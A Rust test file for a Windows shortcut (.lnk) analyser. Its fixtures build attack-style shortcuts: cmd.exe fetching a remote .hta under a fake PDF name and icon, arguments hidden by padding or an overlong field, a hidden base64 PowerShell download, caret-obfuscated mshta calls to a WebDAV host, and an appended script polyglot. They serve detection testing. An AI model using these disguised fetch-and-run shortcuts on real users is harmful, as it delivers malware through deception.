//! Tests of shortcuts: made ones with every block, and what is appended.

use std::fs;
use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use expect_test::{Expect, expect};

use crate::shown::opened;

/// A shortcut put together from its parts.
#[derive(Default)]
struct Maker {
    flags: u32,
    window: u32,
    icon_index: i32,
    items: Vec<Vec<u8>>,
    info: Vec<u8>,
    strings: Vec<u8>,
    extra: Vec<u8>,
}

impl Maker {
    fn to(path: &str) -> Self {
        let mut maker = Self::default().item(root());
        let mut parts = path.split('\\');
        maker =
            maker.item([b"\x2F", parts.next().unwrap_or_default().as_bytes(), b"\\\0"].concat());
        for part in parts {
            maker = maker.item(file(part));
        }
        maker
    }

    fn item(mut self, item: Vec<u8>) -> Self {
        self.flags |= 1;
        self.items.push(item);
        self
    }

    /// The strings must be given in the order of the format.
    fn string(mut self, flag: u32, text: &str) -> Self {
        self.flags |= flag | 0x80;
        let units: Vec<u16> = text.encode_utf16().collect();
        self.strings.extend(u16::try_from(units.len()).unwrap().to_le_bytes());
        self.strings.extend(units.iter().flat_map(|unit| unit.to_le_bytes()));
        self
    }

    fn arguments(self, text: &str) -> Self {
        self.string(0x20, text)
    }

    fn icon(mut self, text: &str, index: i32) -> Self {
        self.icon_index = index;
        self.string(0x40, text)
    }

    fn block(mut self, signature: u32, data: &[u8]) -> Self {
        self.extra.extend(u32::try_from(data.len() + 8).unwrap().to_le_bytes());
        self.extra.extend(signature.to_le_bytes());
        self.extra.extend(data);
        self
    }

    fn bytes(&self) -> Vec<u8> {
        let mut bytes = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46".to_vec();
        bytes.extend(self.flags.to_le_bytes());
        bytes.extend([0; 32]);
        bytes.extend(self.icon_index.to_le_bytes());
        bytes.extend(self.window.max(1).to_le_bytes());
        bytes.extend([0; 12]);
        if self.flags & 1 != 0 {
            let list: Vec<u8> = self.items.iter().flat_map(|item| sized(item)).collect();
            bytes.extend(u16::try_from(list.len() + 2).unwrap().to_le_bytes());
            bytes.extend(list);
            bytes.extend([0, 0]);
        }
        bytes.extend(&self.info);
        bytes.extend(&self.strings);
        bytes.extend(&self.extra);
        bytes.extend([0; 4]);
        bytes
    }
}

fn sized(item: &[u8]) -> Vec<u8> {
    [&u16::try_from(item.len() + 2).unwrap().to_le_bytes(), item].concat()
}

/// The item of My Computer.
fn root() -> Vec<u8> {
    b"\x1F\x50\xE0\x4F\xD0\x20\xEA\x3A\x69\x10\xA2\xD8\x08\0\x2B\x30\x30\x9D".to_vec()
}

/// A file with a short name `X` and its long name in version 9 of the block.
fn file(name: &str) -> Vec<u8> {
    let mut item = vec![0x32, 0];
    item.extend([0; 10]);
    item.extend(b"X\0");
    let mut block = vec![9, 0, 4, 0, 0xEF, 0xBE];
    block.resize(44, 0);
    block.extend(wide(name));
    block.extend([0, 0, 14, 0]);
    item.extend(sized(&block));
    item
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// The 260 bytes and 260 units of a path block.
fn path_block(path: &str) -> Vec<u8> {
    let mut block = vec![0; 780];
    let wide = wide(path);
    block[260..260 + wide.len()].copy_from_slice(&wide);
    block
}

fn check(name: &str, maker: &Maker, expected: &Expect) {
    expected.assert_eq(&opened(name, &maker.bytes()));
}

const CMD: &str = "C:\\Windows\\System32\\cmd.exe";

#[test]
fn a_shortcut_to_a_document_does_nothing() {
    let maker = Maker::to("C:\\Users\\見積\\議事録.pdf").string(4, "お読みください");
    check(
        "議事録.lnk",
        &maker,
        &expect![[r#"
            lnk
            target: C:\\Users\\見積\\議事録.pdf
            comment: お読みください
            Hidden field:target: C:\\Users\\見積\\議事録.pdf
            Shown field:comment: お読みください
        "#]],
    );
}

#[test]
fn a_program_under_the_name_of_a_document() {
    let mut maker = Maker::to(CMD)
        .arguments("/c start https://files.example/a.hta")
        .icon("%ProgramFiles%\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe", 1);
    maker.window = 7;
    check(
        "請求書.pdf.lnk",
        &maker,
        &expect![[r#"
        lnk
        target: C:\\Windows\\System32\\cmd.exe
        arguments: /c start https://files.example/a.hta
        window: minimized
        icon-location: %ProgramFiles%\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe
        icon-index: 1
        * runs-command field:arguments
        * downloads field:arguments
        ~ shortcut-as-document
        Hidden field:target: C:\\Windows\\System32\\cmd.exe
        Code field:command: C:\\Windows\\System32\\cmd.exe /c start https://files.example/a.hta
    "#]],
    );
}

#[test]
fn blanks_push_the_arguments_out_of_sight() {
    let blanks = "\t".repeat(300) + &"\u{3000}".repeat(20) + &"\r\n".repeat(200);
    let maker = Maker::to(CMD).arguments(&format!("{blanks}/c calc.exe{blanks}& exit"));
    check(
        "a.lnk",
        &maker,
        &expect![[r#"
            lnk
            target: C:\\Windows\\System32\\cmd.exe
            arguments: /c calc.exe & exit
            argument-padding: 720
            * hidden field:arguments
            * runs-command field:arguments
            ~ padding
            Hidden field:target: C:\\Windows\\System32\\cmd.exe
            Code field:command: C:\\Windows\\System32\\cmd.exe /c calc.exe & exit
        "#]],
    );
}

#[test]
fn a_folder_longer_than_windows_reads_hides_the_arguments() {
    // The count says 400 characters, and the arguments begin behind the first 260.
    let arguments = "/c calc.exe";
    let mut folder: String = " ".repeat(260);
    folder.push(char::from_u32(u32::try_from(arguments.len()).unwrap()).unwrap());
    folder.push_str(arguments);
    folder.push_str(&"x".repeat(400 - folder.len()));
    let mut maker = Maker::to(CMD).string(0x10, &folder);
    maker.flags |= 0x20;
    check(
        "a.lnk",
        &maker,
        &expect![[r#"
            lnk
            target: C:\\Windows\\System32\\cmd.exe
            arguments: /c calc.exe
            overlay:
              offset: 895
              size: 260
              entropy: 1000
            * exploit-sign field:strings
            * runs-command field:arguments
            * appended-data overlay:895
            Hidden field:target: C:\\Windows\\System32\\cmd.exe
            Code field:command: C:\\Windows\\System32\\cmd.exe /c calc.exe
        "#]],
    );
}

#[test]
fn encoded_script_is_decoded() {
    // Write-Output 'https://shop.example/x'; iwr
    let script = "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAdAB0AHAAcwA6AC8ALwBzAGgAbwBwAC4AZQB4AGEAbQBwAGwAZQAvAHgAJwA7ACAAaQB3AHIAIAA=";
    let maker = Maker::to("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
        .arguments(&format!("-nop -w hidden -eNc {script}"));
    check(
        "a.lnk",
        &maker,
        &expect![[r#"
            lnk
            target: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe
            arguments: -nop -w hidden -eNc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAdAB0AHAAcwA6AC8ALwBzAGgAbwBwAC4AZQB4AGEAbQBwAGwAZQAvAHgAJwA7ACAAaQB3AHIAIAA=
            * runs-command field:arguments
            * downloads field:arguments
            * obfuscated field:arguments
            Hidden field:target: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe
            Code field:command: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -eNc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAdAB0AHAAcwA6AC8ALwBzAGgAbwBwAC4AZQB4AGEAbQBwAGwAZQAvAHgAJwA7ACAAaQB3AHIAIAA=
            Code script:base64: Write-Output \'https://shop.example/x\'; iwr 
        "#]],
    );
}

#[test]
fn letters_of_variables_and_carets_are_read() {
    let maker = Maker::to(CMD).arguments(
        "/v /c s^e^t q=msh& %comspec:~20,1%al^l !q!ta %PUBLIC:~-6,1% \\\\files.example@SSL\\a",
    );
    check(
        "a.lnk",
        &maker,
        &expect![[r#"
            lnk
            target: C:\\Windows\\System32\\cmd.exe
            arguments: /v /c s^e^t q=msh& %comspec:~20,1%al^l !q!ta %PUBLIC:~-6,1% \\\\files.example@SSL\\a
            * runs-command field:arguments
            * downloads field:arguments
            * obfuscated field:arguments
            Hidden field:target: C:\\Windows\\System32\\cmd.exe
            Code field:command: C:\\Windows\\System32\\cmd.exe /v /c s^e^t q=msh& %comspec:~20,1%al^l !q!ta %PUBLIC:~-6,1% \\\\files.example@SSL\\a
            Code script:plain: C:\\Windows\\System32\\cmd.exe /v /c set q=msh& call mshta P \\\\files.example@SSL\\a
        "#]],
    );
}

#[test]
fn icon_and_target_on_another_machine() {
    let mut maker = Maker::default()
        .item([b"\x42\0\x85", b"\\\\files.example".as_slice(), b"\0"].concat())
        .item([b"\xC3\0\x85", b"\\\\files.example\\share".as_slice(), b"\0"].concat())
        .item(file("見積.exe"))
        .icon("\\\\icons.example\\share\\a.ico", 0);
    maker.flags |= 2;
    maker.info = share_info();
    check(
        "a.lnk",
        &maker,
        &expect![[r#"
            lnk
            target: \\\\files.example\\share\\見積.exe
            icon-location: \\\\icons.example\\share\\a.ico
            * external-link field:icon-location
            Hidden field:target: \\\\files.example\\share\\見積.exe
            Link field:icon-location: \\\\icons.example\\share\\a.ico
            Link field:target: \\\\files.example\\share\\見積.exe
        "#]],
    );
}

/// A share with a path suffix (MS-SHLLINK 2.3).
fn share_info() -> Vec<u8> {
    let mut link = vec![0; 20];
    link[8] = 20;
    link.extend(b"\\\\files.example\\share\0");
    link[0] = u8::try_from(link.len()).unwrap();
    let mut info = vec![0; 28];
    info[4] = 28;
    info[8] = 2;
    info[20] = 28;
    info[24] = u8::try_from(28 + link.len()).unwrap();
    info.extend(link);
    info.extend(b"\x8c\xa9\x90\xcf.exe\0");
    info[0] = u8::try_from(info.len()).unwrap();
    info
}

#[test]
fn blocks_tell_of_the_machine() {
    let mut tracker = vec![0x58, 0, 0, 0, 0, 0, 0, 0];
    tracker.extend(b"desktop-9");
    tracker.resize(24, 0);
    let volume = [0x11; 16];
    let file = [
        0xEC, 0x46, 0xCD, 0x7B, 0x22, 0x7F, 0xDD, 0x11, 0x94, 0x99, 0x00, 0x13, 0x72, 0x16, 0x87,
        0x4A,
    ];
    let mut birth = file;
    birth[15] = 0x4B;
    tracker.extend([volume, file, volume, birth].concat());
    let mut value = vec![0x1F, 0, 0, 0];
    value.extend(22_u32.to_le_bytes());
    value.extend(wide("S-1-5-21-1-2-3-1001\0\0\0"));
    let property = [&[0; 4][..], &4_u32.to_le_bytes(), &[0], &value].concat();
    let mut storage = b"\0\0\0\x001SPS".to_vec();
    storage.extend(b"\xE2\x8A\x58\x46\xBC\x4C\x38\x43\xBB\xFC\x13\x93\x26\x98\x6D\xCE");
    storage.extend(&property);
    storage[24] = u8::try_from(property.len()).unwrap();
    storage.extend([0; 4]);
    storage[0] = u8::try_from(storage.len()).unwrap();
    storage.extend([0; 4]);
    let mut maker = Maker::to("C:\\a\\tool.exe")
        .block(0xA000_0001, &path_block("%windir%\\notepad.exe"))
        .block(0xA000_0007, &path_block("%windir%\\System32\\imageres.dll"))
        .block(0xA000_0003, &tracker)
        .block(0xA000_0009, &storage)
        .block(0xA000_0004, &932_u32.to_le_bytes())
        .block(
            0xA000_000B,
            b"\x77\x4E\xC1\x1A\xE7\x02\x5D\x4E\xB7\x44\x2E\xB1\xAE\x51\x98\xB7\0\0\0\0",
        )
        .block(0xA000_00AA, b"what is this");
    maker.flags |= 0x200;
    check(
        "a.lnk",
        &maker,
        &expect![[r#"
            lnk
            target: %windir%\\notepad.exe
            item-path: C:\\a\\tool.exe
            icon-location: %windir%\\System32\\imageres.dll
            tracker:
              machine: desktop-9
              volume-id: 11111111-1111-1111-1111-111111111111
              file-id: 7BCD46EC-7F22-11DD-9499-00137216874A
              mac: 00:13:72:16:87:4a
              created: 2008-09-10T10:23:17Z
              birth-file-id: 7BCD46EC-7F22-11DD-9499-00137216874B
              birth-volume-id: 11111111-1111-1111-1111-111111111111
              birth-mac: 00:13:72:16:87:4b
            known-folder: ::System32
            code-page: 932
            blocks:
            - environment
            - icon-environment
            - tracker
            - properties
            - console-code-page
            - known-folder
            - 0xa00000aa
            properties:
            -
                name: user-sid
                value: S-1-5-21-1-2-3-1001
            Hidden field:target: C:\\a\\tool.exe\n%windir%\\notepad.exe
            Hidden property:user-sid: S-1-5-21-1-2-3-1001
        "#]],
    );
}

#[test]
fn data_behind_the_end_is_handed_out() {
    let mut bytes = Maker::to("C:\\Windows\\System32\\mshta.exe").arguments("a.lnk").bytes();
    bytes.extend(b"<html><script>alert(1)</script></html>");
    expect![[r#"
        lnk
        > overlay:369 - 38 bytes <html><script>alert(1)</
        target: C:\\Windows\\System32\\mshta.exe
        arguments: a.lnk
        overlay:
          offset: 369
          size: 38
          entropy: 3903
        * runs-command field:arguments
        * appended-data overlay:369
        * embedded-file overlay:369
        ~ polyglot
        Hidden field:target: C:\\Windows\\System32\\mshta.exe
        Code field:command: C:\\Windows\\System32\\mshta.exe a.lnk
    "#]]
    .assert_eq(&opened("a.lnk", &bytes));
}

#[test]
fn narrow_strings_are_japanese() {
    let mut maker = Maker::to("C:\\a.exe");
    maker.flags |= 4;
    maker.strings.extend(b"\x08\0\x8c\xa9\x90\xcf\x8f\x91.a");
    check(
        "a.lnk",
        &maker,
        &expect![[r#"
            lnk
            target: C:\\a.exe
            comment: 見積書.a
            Hidden field:target: C:\\a.exe
            Shown field:comment: 見積書.a
        "#]],
    );
}

#[test]
fn cut_and_lying_sizes_are_noted() {
    let whole = Maker::to(CMD).arguments("/c exit").bytes();
    expect![[r#"
        lnk
        target: C:\\Windows\\System32\\cmd.exe
        arguments: /c e
        * runs-command field:arguments
        Hidden field:target: C:\\Windows\\System32\\cmd.exe
        Code field:command: C:\\Windows\\System32\\cmd.exe /c e
        ! file-broken 
    "#]]
    .assert_eq(&opened("a.lnk", &whole[..whole.len() - 10]));
    expect![[r#"
        lnk
        ! truncated 
    "#]]
    .assert_eq(&opened("a.lnk", &whole[..22]));
    let mut lying = Maker::to(CMD);
    lying.items[1].truncate(1);
    let mut bytes = lying.bytes();
    // The first item says that it is longer than the list.
    bytes[78..80].copy_from_slice(&0xFFFF_u16.to_le_bytes());
    expect![[r#"
        lnk
        ! file-broken 
    "#]]
    .assert_eq(&opened("a.lnk", &bytes));
}

#[test]
fn mutated_shortcuts_do_no_harm() {
    let bytes = Maker::to(CMD)
        .arguments("/c s^et a=%comspec:~0,1%")
        .block(0xA000_0001, &path_block("%windir%"))
        .bytes();
    let other = Maker::to("C:\\x").block(0xA000_0009, &[0; 40]).bytes();
    for seed in 0..2_000 {
        let _ = opened("a.lnk", &testkit::mutation::mutate(seed, &bytes, &other));
    }
}

/// A sample; some are kept as Base64.
fn sample(path: &Path) -> Vec<u8> {
    let bytes = fs::read(path).unwrap();
    if !bytes.starts_with(b"TAAA") {
        return bytes;
    }
    let text: Vec<u8> = bytes.into_iter().filter(|byte| !byte.is_ascii_whitespace()).collect();
    STANDARD.decode(text).unwrap()
}

#[test]
fn shortcuts_of_the_larger_corpus() {
    let Some(corpus) = testkit::larger_corpus() else { return };
    for (name, line) in [
        ("lnk/microsoft_example", "\ntarget: C:\\\\test\\\\a.txt\n"),
        ("lnk/sample2", "  machine: desktop-1dic5tp\n"),
        ("lnk/sample2", "  mac: 84:a9:3e:87:ea:e5\n"),
        (
            "lnk/extra_data",
            "target: C:\\\\Users\\\\%USERNAME%\\\\AppData\\\\Roaming\\\\.minecraft\n",
        ),
        ("lnk/padded_cli_arguments", "\narguments: /c \\\"set PATH"),
        ("lnk/padded_cli_arguments", "* runs-command field:arguments\n"),
        ("lnk/darwin_block", "\ndarwin: ,s?WosbRz8?b5SjnTa~J<\n"),
        ("strelka/test.lnk", "\ntarget: "),
    ] {
        let bytes = sample(&corpus.join("artifacts").join(name));
        let opened = opened("a.lnk", &bytes);
        assert!(opened.contains(line), "{name}\n{opened}");
    }
    for entry in fs::read_dir(corpus.join("artifacts/lnk")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none() {
            let bytes = sample(&path);
            let opened = opened("a.lnk", &bytes);
            assert!(opened.contains("target: "), "{}\n{opened}", path.display());
        }
    }
}
